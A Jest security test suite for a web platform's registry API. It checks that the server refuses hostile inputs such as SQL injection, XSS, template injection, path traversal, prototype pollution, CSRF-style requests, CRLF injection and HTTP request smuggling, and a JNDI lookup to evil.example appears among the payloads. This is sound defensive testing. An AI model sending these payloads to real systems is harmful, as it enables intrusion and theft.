import { once } from 'node:events';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  call,
  nobody,
  signedInAs,
  startPlatform,
  testDemoKey,
  testId,
  type PlatformProcess,
} from '@huihuan/testing-platform';
import { derivedPassword } from '@huihuan/platform-auth';

let platform: PlatformProcess;
let administrator: { readonly authorization: string };

beforeAll(async () => {
  platform = await startPlatform();
  administrator = { authorization: await signedInAs(platform.url, 'administrator') };
});
afterAll(() => platform.stop());

interface Problem {
  readonly code?: string;
  readonly personId?: string;
  readonly displayName?: string;
  readonly password?: string;
}

const send = (path: string, body: unknown, headers: Record<string, string> = administrator) =>
  call<Problem>(platform.url, path, body, headers);

const person = (displayName: string, login: string | null = null) => ({ id: testId(), displayName, login });

/** Everything that the server says to bytes on one connection, until it ends or has said so much. */
const raw = async (text: string): Promise<string> => {
  const socket = connect(Number(new URL(platform.url).port), '127.0.0.1');
  let heard = '';
  socket.on('data', (chunk: Buffer) => void (heard += chunk.toString()));
  socket.on('error', () => undefined);
  socket.write(text);
  await once(socket, 'close');
  return heard;
};

const statusOf = (heard: string): number => Number(/^HTTP\/1\.1 (\d{3})/.exec(heard)?.[1] ?? 0);
const statusesIn = (heard: string): readonly number[] =>
  [...heard.matchAll(/HTTP\/1\.1 (\d{3})/g)].map(([, status]) => Number(status));

const hostile = [
  `'; drop table person; --`,
  `1' or '1'='1`,
  `\\'; select pg_sleep(10); --`,
  ['{{7*7}}', '{7*7}<%= 7*7 %>#{7*7}'].join('$'),
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  `=cmd|' /C calc'!A0`,
  ['%s%n%x ../../../etc/passwd ', '{jndi:ldap://evil.example/a}'].join('$'),
  '\u202Etxt.exe\u2066',
];

describe('texts that mean something elsewhere', () => {
  it.each(hostile)('are kept and told as texts: %s', async (text) => {
    const wanted = person(text);
    expect((await send('/api/registry/people', wanted)).status).toBe(201);
    const people = await call<{ people: Problem[]; next: string | null }>(
      platform.url,
      '/api/registry/people?limit=200',
      undefined,
      administrator,
    );
    const found = people.body.people.find(({ personId }) => personId === wanted.id);
    const all = JSON.stringify(people.body);
    expect(found?.displayName ?? (all.includes(wanted.id) ? 'missing' : text)).toBe(text);
  });

  it.each(hostile)('open no account as a login name: %s', async (login) => {
    const body = { login, password: 'several unrelated words', as: 'program' };
    const { status } = await send('/api/registry/session', body, nobody);
    expect([401, 422, 429]).toContain(status);
  });

  it.each(['/api/registry/people?after=', '/api/registry/sites?after=', '/api/collection/discrepancies?siteId='])(
    'are no part of a query: %s',
    async (path) => {
      for (const text of hostile.slice(0, 3)) {
        const { status } = await call(platform.url, path + encodeURIComponent(text), undefined, administrator);
        expect([200, 403, 422]).toContain(status);
      }
    },
  );
});

describe('members that nobody asked for', () => {
  it.each([
    ['a role', { role: 'system-administrator' }],
    ['the state', { active: true, isDemo: true }],
    ['who did it', { registeredBy: testId() }],
    ['a prototype', { constructor: { prototype: { isAdministrator: true } } }],
    ['an own prototype', JSON.parse('{"__proto__": {"isAdministrator": true}}') as object],
  ])('are refused, and nothing is kept: %s', async (_, more) => {
    const wanted = Object.defineProperties(person('Lin'), Object.getOwnPropertyDescriptors(more));
    const refused = await send('/api/registry/people', wanted);
    expect([400, 422]).toContain(refused.status);
    expect((await send('/api/registry/people', { ...person('Lin'), id: wanted.id })).status).toBe(201);
  });

  it.each(['__proto__[admin]=1', 'constructor[prototype][admin]=1', 'limit=1&limit=2', 'limit[]=1'])(
    'are refused in a query: %s',
    async (query) => {
      const { status } = await call(platform.url, `/api/registry/people?${query}`, undefined, administrator);
      expect(status).toBe(422);
    },
  );
});

describe('paths that climb', () => {
  it.each([
    '/../../../../etc/passwd',
    '/assets/../../package.json',
    '/system/../../../package.json',
    '/assets/..%2f..%2f..%2fpackage.json',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/assets/....//....//package.json',
    '/..\\..\\package.json',
    '//etc/passwd',
    '/assets/%00.js',
    '/.git/config',
    '/api/docs/../../package.json',
    'http://127.0.0.1:5432/',
  ])('find nothing: %s', async (path) => {
    const heard = await raw(`GET ${path} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n`);
    expect(heard).not.toMatch(/root:|"workspaces"|\[core\]/);
    // the map answers at `/`, and an absolute address names just that
    if (!path.startsWith('http')) expect(statusOf(heard)).toBeGreaterThanOrEqual(400);
    expect(statusOf(heard)).toBeLessThan(500);
  });
});

describe('pages of others', () => {
  it('may read nothing: no header opens the door to them', async () => {
    for (const path of ['/api/registry/session', '/api/registry/people', '/api/openapi.json', '/']) {
      const asked = { origin: 'https://evil.example', 'access-control-request-method': 'POST' };
      const answer = await fetch(`${platform.url}${path}`, { method: 'OPTIONS', headers: asked });
      await answer.arrayBuffer();
      expect([...answer.headers.keys()].filter((name) => name.startsWith('access-control'))).toEqual([]);
    }
  });

  it.each(['cross-site', 'same-site'])('may not use the cookie of a session: %s', async (site) => {
    const withoutToken = { 'sec-fetch-site': site, origin: 'https://evil.example' };
    const headers = { ...nobody, ...withoutToken };
    const signIn = { login: 'administrator', password: derivedPassword(testDemoKey, 'administrator'), as: 'browser' };
    expect((await send('/api/registry/session', signIn, headers)).status).toBe(403);
    const [refreshed, left] = await Promise.all([
      fetch(`${platform.url}/api/registry/session/refresh`, { method: 'POST', headers: withoutToken }),
      fetch(`${platform.url}/api/registry/session`, { method: 'DELETE', headers: withoutToken }),
    ]);
    expect([refreshed.status, left.status]).toEqual([403, 403]);
  });

  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x'])(
    'cannot send what a form sends: %s',
    async (type) => {
      const answer = await fetch(`${platform.url}/api/registry/session/refresh`, {
        method: 'POST',
        headers: { 'content-type': type },
        body: '{}',
      });
      expect(answer.status).toBe(415);
    },
  );
});

describe('what is sent again', () => {
  it('has its first answer, and under the same id nothing else', async () => {
    const wanted = person('Zhao');
    const first = await send('/api/registry/people', wanted);
    const again = await send('/api/registry/people', wanted);
    expect([first.status, again.status]).toEqual([201, 201]);
    expect(again.body).toEqual(first.body);
    const other = await send('/api/registry/people', { ...wanted, displayName: 'Qian' });
    expect([other.status, other.body.code]).toEqual([409, 'request.id-reused']);
  });

  it('at once, under one id, is one act', async () => {
    const wanted = person('Sun', `sun-${Date.now()}`);
    const answers = await Promise.all(Array.from({ length: 8 }, () => send('/api/registry/people', wanted)));
    expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([201]));
  });

  it('gives a one-time password to one alone, however many use it at once', async () => {
    const login = `one-time-${Date.now()}`;
    const wanted = person('Li', login);
    await send('/api/registry/people', wanted);
    const { password = '' } = (await send(`/api/registry/people/${wanted.id}/one-time-password`, {})).body;
    const tokens: string[] = [];
    for (let count = 0; count < 3; count += 1) {
      const opened = await call<{ accessToken: string }>(
        platform.url,
        '/api/registry/session',
        { login, password, as: 'program' },
        nobody,
      );
      tokens.push(opened.body.accessToken);
    }
    const changes = await Promise.all(
      tokens.map((token, index) =>
        send(
          '/api/registry/password',
          { oldPassword: password, newPassword: `several unrelated words ${index} of one` },
          { authorization: `Bearer ${token}` },
        ),
      ),
    );
    expect(changes.filter(({ status }) => status === 201)).toHaveLength(1);
  });
});

describe('requests that two programs would read differently', () => {
  const smuggled = 'GET /api/openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n';
  const post = (headers: readonly string[], body: string): string =>
    `POST /api/registry/session HTTP/1.1\r\nhost: localhost\r\n${headers.join('\r\n')}\r\n\r\n${body}`;

  it.each([
    ['a length and pieces', post(['content-length: 5', 'transfer-encoding: chunked'], `0\r\n\r\n${smuggled}`)],
    ['two lengths', post(['content-length: 0', `content-length: ${smuggled.length}`], smuggled)],
    ['a length that is none', post(['content-length: +5'], smuggled)],
    ['pieces by another name', post(['transfer-encoding: xchunked'], `0\r\n\r\n${smuggled}`)],
    ['a space before the colon', post(['transfer-encoding : chunked'], `0\r\n\r\n${smuggled}`)],
    ['a folded header', post(['x: 1', ' transfer-encoding: chunked'], smuggled)],
    ['a bare line feed', `GET /health/live HTTP/1.1\nhost: localhost\nx: 1\n\n${smuggled}`],
    ['a piece that lies about its size', post(['transfer-encoding: chunked'], `zz\r\n\r\n${smuggled}`)],
  ])('get a no, and nothing of the second request: %s', async (_, text) => {
    const heard = await raw(text);
    // the bytes after a refused body are no request: if they get an answer, then a refusal, too
    expect(statusesIn(heard).every((status) => status >= 400 && status < 500)).toBe(true);
    expect(statusOf(heard)).toBeGreaterThan(0);
    expect(heard).not.toContain('"openapi"');
  });

  it('with headers of too many bytes are refused', async () => {
    const heard = await raw(`GET /health/live HTTP/1.1\r\nhost: localhost\r\nx: ${'x'.repeat(40_000)}\r\n\r\n`);
    expect(statusOf(heard)).toBe(431);
  });

  it('cannot make a header of an answer', async () => {
    const heard = await raw(
      'GET /api/registry/people?x=%0d%0aset-cookie:%20a=b HTTP/1.1\r\nhost: localhost\r\nx-correlation-id: a%0d%0ax: y\r\nconnection: close\r\n\r\n',
    );
    expect(heard.split('\r\n\r\n')[0]).not.toMatch(/^(?:set-cookie|x): /im);
  });

  it.each(['TRACE', 'CONNECT', 'PROPFIND'])('by the method %s find nothing', async (method) => {
    const heard = await raw(
      `${method} / HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\nx-secret: hunter2\r\n\r\n`,
    );
    expect(heard).not.toContain('hunter2');
    expect(statusOf(heard)).not.toBe(200);
  });
});

describe('limits of a running platform', () => {
  it('tell everybody how much is left, by the person where one is signed in', async () => {
    const mine = await call(platform.url, '/api/registry/people', undefined, administrator);
    expect(mine.headers.get('ratelimit-policy')).toMatch(/^"person";q=\d+;w=60$/);
    const strange = await call(platform.url, '/api/registry/people', undefined, nobody);
    expect(strange.headers.get('ratelimit-policy')).toMatch(/^"address";q=\d+;w=60$/);
    const forged = await call(platform.url, '/api/registry/people', undefined, { authorization: 'Bearer a.b.c' });
    expect([forged.status, forged.headers.get('ratelimit-policy')]).toEqual([
      401,
      expect.stringMatching(/^"unproven";/),
    ]);
  });

  it('keep figures to this machine', async () => {
    const outside = { 'x-forwarded-for': '203.0.113.7' };
    expect((await fetch(`${platform.url}/metrics`, { headers: outside })).status).toBe(403);
    expect((await fetch(`${platform.url}/metrics`)).status).toBe(200);
    const health = (headers: Record<string, string>) =>
      call(platform.url, '/api/sorting/health/ready', undefined, headers);
    expect((await health({ ...nobody, ...outside })).body).toEqual({ status: 'ready', checks: {} });
    expect((await health({ ...administrator, ...outside })).body['checks']).toHaveProperty('database');
  });
});
